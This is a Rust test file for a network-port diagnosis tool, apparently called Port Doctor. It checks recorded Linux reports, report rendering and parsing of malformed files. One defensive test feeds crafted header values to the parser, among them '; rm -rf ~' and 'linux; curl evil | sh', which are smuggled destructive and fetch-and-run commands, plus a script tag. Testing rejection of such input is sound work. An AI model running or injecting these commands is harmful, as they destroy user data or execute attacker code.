//! The rules on recorded facts: reports saved from real runs (Linux, real sockets and
//! network namespaces) are read back, diagnosed again, and must give the same answer.
//! Mixed cases that need several hosts at once are built from the same shapes.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::net::IpAddr;

use portdoctor_core::facts::{
    Environment, Facts, ProbeDetail, Resolution, ResolutionOutcome, ResolutionSource,
};
use portdoctor_core::finding::{Verdict, codes};
use portdoctor_core::report::{Report, ReportMeta};
use portdoctor_core::{Catalog, ProbeOutcome, ProbeResult, diagnose, parse_target};

const RECORDED: &[(&str, &str, &str)] = &[
    (
        "linux-open.json",
        codes::REACHABLE,
        include_str!("fixtures/reports/linux-open.json"),
    ),
    (
        "linux-refused.json",
        codes::NO_LISTENER,
        include_str!("fixtures/reports/linux-refused.json"),
    ),
    (
        "linux-localhost-mismatch.json",
        codes::IPV6_IPV4_MISMATCH,
        include_str!("fixtures/reports/linux-localhost-mismatch.json"),
    ),
    (
        "linux-dns-no-answer.json",
        codes::DNS_NO_ANSWER,
        include_str!("fixtures/reports/linux-dns-no-answer.json"),
    ),
    (
        "linux-network-unreachable.json",
        codes::NO_ROUTE_HERE,
        include_str!("fixtures/reports/linux-network-unreachable.json"),
    ),
    (
        "linux-router-admin-prohibited.json",
        codes::FIREWALL_REJECT,
        include_str!("fixtures/reports/linux-router-admin-prohibited.json"),
    ),
    (
        "linux-router-host-unreachable.json",
        codes::HOST_UNREACHABLE,
        include_str!("fixtures/reports/linux-router-host-unreachable.json"),
    ),
    (
        "linux-neighbour-unreachable.json",
        codes::HOST_UNREACHABLE,
        include_str!("fixtures/reports/linux-neighbour-unreachable.json"),
    ),
    (
        "linux-timeout.json",
        codes::TIMEOUT,
        include_str!("fixtures/reports/linux-timeout.json"),
    ),
];

/// Answers the rules changed on purpose since the file was recorded.
fn changed_on_purpose<'a>(name: &str, code: &'a str) -> &'a str {
    match (name, code) {
        // No route on this computer (ENETUNREACH at once, no ICMP): the cause is here.
        ("linux-network-unreachable.json", "network-unreachable") => codes::NO_ROUTE_HERE,
        _ => code,
    }
}

#[test]
fn recorded_reports_diagnose_the_same_again() {
    let catalog = Catalog::english();
    for (name, expected, json) in RECORDED {
        let report = Report::open(json, &catalog).unwrap_or_else(|e| panic!("{name}: {e}"));
        let facts = report
            .facts
            .clone()
            .unwrap_or_else(|| panic!("{name}: no facts"));
        let findings = diagnose(&facts);
        assert_eq!(findings[0].code(), *expected, "{name}");
        // The codes as the file recorded them (schema 1), read as plain JSON.
        let raw: serde_json::Value = serde_json::from_str(json).unwrap();
        let recorded: Vec<&str> = raw["findings"]
            .as_array()
            .unwrap()
            .iter()
            .map(|f| f["code"].as_str().unwrap())
            .map(|code| changed_on_purpose(name, code))
            .collect();
        let now: Vec<&str> = findings.iter().map(|f| f.code()).collect();
        assert_eq!(now, recorded, "{name}: the rules changed their answer");
        // Every finding reads as words, never as a bare code.
        for f in &findings {
            let e = catalog.explain(f);
            catalog
                .explains_fully(f)
                .unwrap_or_else(|err| panic!("{name}: {err}"));
            if f.verdict == Verdict::Cause {
                assert!(
                    !e.why.is_empty() && !e.steps.is_empty(),
                    "{name}: {}",
                    f.code()
                );
            }
        }
    }
}

#[test]
fn router_reject_evidence_names_the_sender() {
    let json = include_str!("fixtures/reports/linux-router-admin-prohibited.json");
    let facts = Report::open(json, &Catalog::english())
        .unwrap()
        .facts
        .unwrap();
    let f = &diagnose(&facts)[0];
    assert_eq!(f.confidence, portdoctor_core::Confidence::Certain);
    assert_eq!(f.args()["sender"], "198.18.1.1");
    assert!(
        Catalog::english()
            .evidence(&f.evidence[0])
            .contains("ICMP type 3 code 13 from 198.18.1.1"),
        "{:?}",
        f.evidence
    );
}

fn facts(input: &str, addresses: &[(&str, ProbeOutcome, Option<ProbeDetail>)]) -> Facts {
    let target = parse_target(input).unwrap();
    let ips: Vec<IpAddr> = addresses
        .iter()
        .map(|(a, _, _)| a.parse().unwrap())
        .collect();
    Facts {
        resolution: Resolution {
            source: ResolutionSource::System,
            outcome: ResolutionOutcome::Resolved {
                addresses: ips.clone(),
            },
            elapsed_ms: 1.0,
        },
        addresses: addresses
            .iter()
            .zip(&ips)
            .map(|((a, o, d), ip)| ProbeResult {
                address: a.to_string(),
                family: portdoctor_core::Family::of(ip),
                port: target.port,
                outcome: *o,
                elapsed_ms: 0.5,
                detail: d.clone(),
            })
            .collect(),
        target,
        timeout_ms: 5000,
        listeners: None,
        service: None,
        bind: None,
        queue: None,
        firewall: None,
        ping: None,
        trace: None,
        proxy: None,
        containers: None,
        wsl: None,
        environment: Environment {
            os: "linux".into(),
            privileged: false,
            not_on_this_system: Vec::new(),
        },
    }
}

#[test]
fn ipv4_refused_and_ipv6_without_route_leads_with_the_refusal() {
    let f = facts(
        "web.example.test:443",
        &[
            ("2001:db8::1", ProbeOutcome::Unreachable, None),
            ("192.0.2.10", ProbeOutcome::Refused, None),
        ],
    );
    let findings = diagnose(&f);
    assert_eq!(findings[0].code(), codes::NO_LISTENER);
    // No route for IPv6 here: that part of the cause is on this computer.
    assert_eq!(findings[1].code(), codes::NO_ROUTE_HERE);
    assert_eq!(findings[1].verdict, Verdict::Cause);
}

#[test]
fn ipv4_works_but_ipv6_times_out_is_a_mismatch() {
    let f = facts(
        "web.example.test:443",
        &[
            ("2001:db8::1", ProbeOutcome::Timeout, None),
            ("192.0.2.10", ProbeOutcome::Open, None),
        ],
    );
    let first = &diagnose(&f)[0];
    assert_eq!(first.code(), codes::IPV6_IPV4_MISMATCH);
    assert_eq!(first.args()["fails_outcome"], "timeout");
    assert_eq!(first.args()["fails_first"], true);
}

#[test]
fn one_dead_address_among_several_of_one_family() {
    let f = facts(
        "api.example.test:443",
        &[
            ("192.0.2.10", ProbeOutcome::Open, None),
            ("192.0.2.11", ProbeOutcome::Timeout, None),
            ("192.0.2.12", ProbeOutcome::Open, None),
        ],
    );
    let first = &diagnose(&f)[0];
    assert_eq!(first.code(), codes::SOME_ADDRESSES_FAIL);
    assert_eq!(
        (&first.args()["failed"], &first.args()["total"]),
        (&1.into(), &3.into())
    );
}

#[test]
fn no_free_local_port_is_a_local_error() {
    let detail = ProbeDetail {
        error: Some("EADDRNOTAVAIL".into()),
        local: Some(portdoctor_core::facts::LocalErrorKind::NoFreePort),
        ..ProbeDetail::default()
    };
    let f = facts(
        "db1.example.test:5432",
        &[("192.0.2.5", ProbeOutcome::LocalError, Some(detail))],
    );
    let first = &diagnose(&f)[0];
    assert_eq!(first.code(), codes::LOCAL_ERROR);
    assert_eq!(first.args()["reason"], "no-free-port");
    let text = Catalog::english().explain(first);
    assert!(text.why.contains("run out of free ports"), "{}", text.why);
}

#[test]
fn name_not_found_stops_before_probing() {
    let mut f = facts("nope.example.test:80", &[]);
    f.resolution.outcome = ResolutionOutcome::NotFound;
    let findings = diagnose(&f);
    assert_eq!(findings.len(), 1);
    assert_eq!(findings[0].code(), codes::DNS_FAILURE);
    assert_eq!(findings[0].verdict, Verdict::Cause);
}

#[test]
fn this_computer_is_named_in_plain_words() {
    let f = facts("8080", &[("127.0.0.1", ProbeOutcome::Refused, None)]);
    let first = &diagnose(&f)[0];
    let text = Catalog::english().explain(first);
    assert_eq!(
        text.headline,
        "No program is answering on port 8080 of this computer."
    );
    // Tried at 127.0.0.1, which no other computer can reach: a test listener there
    // would prove nothing.
    assert!(
        !first
            .actions
            .contains(&portdoctor_core::finding::Action::OpenTestListener)
    );
    // At an address of this computer that others use, it tells the way from them.
    let mut lan = facts(
        "192.168.1.5:8080",
        &[("192.168.1.5", ProbeOutcome::Refused, None)],
    );
    lan.target.this_computer = true;
    let first = &diagnose(&lan)[0];
    assert!(
        first
            .actions
            .contains(&portdoctor_core::finding::Action::OpenTestListener),
        "{:?}",
        first.actions
    );
}

#[test]
fn every_code_has_its_sentences() {
    let c = Catalog::english();
    for code in codes::ALL {
        for part in ["headline", "why", "step-1"] {
            assert!(
                c.has(&format!("{code}-{part}")),
                "{code}-{part} is missing from en.ftl"
            );
        }
    }
}

#[test]
fn reports_render_in_three_formats_and_survive_a_round_trip() {
    let c = Catalog::english();
    for (name, _, json) in RECORDED {
        let report = Report::open(json, &c).unwrap();
        let again = Report::open(&report.to_json(), &c).unwrap();
        assert_eq!(again, report, "{name}");
        let text = report.render_text(&c);
        assert!(
            text.lines().count() <= 25,
            "{name}: {} lines\n{text}",
            text.lines().count()
        );
        assert!(
            report
                .render_markdown(&c)
                .starts_with("# Port Doctor report ")
        );
    }
    let meta = ReportMeta {
        id: "ABCD-EFGH".into(),
        created: "2026-12-02T00:10:00Z".into(),
        tool_version: "0".into(),
        os: "linux".into(),
        lang: "en".into(),
    };
    let f = facts(
        "db1.example.test:5432",
        &[("192.0.2.5", ProbeOutcome::Refused, None)],
    );
    let r = Report::for_check(meta, f.clone(), &c);
    assert!(
        r.render_text(&c)
            .contains("no-listener (likely): 192.0.2.5:5432 refused in 0.5 ms")
    );
}

#[test]
fn a_ticket_file_opens_like_the_json_and_carries_earlier_checks() {
    let c = Catalog::english();
    for (name, _, json) in RECORDED {
        let mut report = Report::open(json, &c).unwrap();
        report.earlier = vec![portdoctor_core::report::Earlier {
            created: "2026-12-02T00:10:00Z".into(),
            code: "no-listener".into(),
            status: portdoctor_core::view::Status::Problem,
        }];
        let ticket = report.render_markdown(&c);
        let opened = Report::open(&ticket, &c).unwrap_or_else(|e| panic!("{name}: {e}"));
        assert_eq!(
            opened, report,
            "{name}: the ticket file holds the whole report"
        );
        let origin = opened.view(&c).provenance;
        assert_eq!(origin.earlier.len(), 1);
        assert!(
            origin
                .lines
                .iter()
                .any(|l| l
                    == "Checked before, on 2026-12-02 00:10 UTC: Problem found (no-listener)."),
            "{:?}",
            origin.lines
        );
        // Text pasted around it (a ticket system's own lines) changes nothing.
        let wrapped = format!("Re: ticket 4711\n\n{ticket}\n-- \nHelpdesk");
        assert_eq!(Report::open(&wrapped, &c).unwrap(), report, "{name}");
    }
    let plain = "# Notes\n\nNo data here.\n";
    assert_eq!(
        Report::open(plain, &c).unwrap_err().to_string(),
        "neither a report file (JSON) nor a ticket file with the report's data in it"
    );
}

#[test]
fn a_crafted_header_is_refused_or_made_harmless() {
    let c = Catalog::english();
    let json = include_str!("fixtures/reports/linux-refused.json");
    let mut v: serde_json::Value = serde_json::from_str(json).unwrap();
    v["id"] = "; rm -rf ~".into();
    assert!(Report::open(&v.to_string(), &c).is_err(), "a bad ID");
    let mut v: serde_json::Value = serde_json::from_str(json).unwrap();
    v["created"] = "yesterday\u{202e}".into();
    assert!(Report::open(&v.to_string(), &c).is_err(), "a bad time");
    let mut v: serde_json::Value = serde_json::from_str(json).unwrap();
    v["os"] = "linux; curl evil | sh".into();
    v["tool_version"] = "1.0 <script>".into();
    v["earlier"] = serde_json::json!([
        { "created": "2026-12-02T00:10:00Z", "code": "made-up", "status": "ok" },
        { "created": "soon", "code": "no-listener", "status": "ok" },
        { "created": "2026-12-02T00:11:00Z", "code": "reachable", "status": "ok" }
    ]);
    let r = Report::open(&v.to_string(), &c).unwrap();
    assert_eq!(r.meta.os, "unknown");
    assert_eq!(r.meta.tool_version, "1.0script");
    assert_eq!(
        r.earlier.len(),
        1,
        "only the earlier check that is what it says"
    );
    assert_eq!(r.earlier[0].code, "reachable");
}

#[test]
fn broken_report_files_are_errors_not_panics() {
    for bad in [
        "",
        "{",
        "null",
        "[]",
        "{\"schema\": \"other\"}",
        "{\"schema\": \"portdoctor-report\"}",
    ] {
        assert!(Report::open(bad, &Catalog::english()).is_err(), "{bad:?}");
    }
    let json = include_str!("fixtures/reports/linux-refused.json")
        .replace("portdoctor-report", "something-else");
    assert!(
        Report::open(&json, &Catalog::english())
            .unwrap_err()
            .to_string()
            .contains("not a Port Doctor report")
    );
}

#[test]
fn stealth_mode_on_this_mac_is_said() {
    let mut f = facts(
        "127.0.0.1:5432",
        &[("127.0.0.1", ProbeOutcome::Refused, None)],
    );
    f.listeners = Some(portdoctor_core::local::ListenerTable {
        source: "libproc".into(),
        ..Default::default()
    });
    let mut fw = portdoctor_core::firewall::FirewallFacts::default();
    fw.state.insert("app_firewall".into(), "on".into());
    fw.state.insert("stealth_mode".into(), "on".into());
    f.firewall = Some(fw);
    let findings = diagnose(&f);
    let s = findings
        .iter()
        .find(|x| x.code() == codes::STEALTH_MODE)
        .expect("stealth-mode");
    assert_eq!(s.confidence, portdoctor_core::Confidence::Possible);
    assert!(
        Catalog::english()
            .explain(s)
            .headline
            .contains("stealth mode")
    );
}

#[test]
fn windows_firewall_does_not_judge_loopback() {
    use portdoctor_core::firewall::{ChainPolicy, Decision, FirewallFacts};
    let fw = FirewallFacts {
        sources: vec!["windows".into()],
        policies: vec![ChainPolicy {
            source: "windows".into(),
            table: "public".into(),
            chain: "inbound".into(),
            hook: "input".into(),
            policy: "drop".into(),
        }],
        ..FirewallFacts::default()
    };
    assert!(matches!(
        fw.decision(5432, "input", false),
        Decision::Policy(_)
    ));
    assert_eq!(fw.decision(5432, "input", true), Decision::Nothing);
}

/// Regression (issue 10, defect 6): a firewall on the way, recorded from a real run,
/// offers the commands its admin runs, one per system (the server's is not known),
/// never only this computer's firewall listing.
#[test]
fn a_remote_block_offers_the_servers_admin_commands_for_every_system() {
    use portdoctor_core::commands::{CommandOs, Purpose};
    let c = Catalog::english();
    let json = include_str!("fixtures/reports/linux-router-admin-prohibited.json");
    let view = Report::open(json, &c).unwrap().view(&c);
    let answer = view.answer.unwrap();
    assert_eq!(answer.code, "firewall-reject");
    let systems: Vec<CommandOs> = answer.admin_commands.iter().map(|c| c.os).collect();
    assert_eq!(
        systems,
        [CommandOs::Linux, CommandOs::Macos, CommandOs::Windows]
    );
    assert!(
        answer
            .admin_commands
            .iter()
            .all(|c| c.purpose == Purpose::Firewall)
    );
}
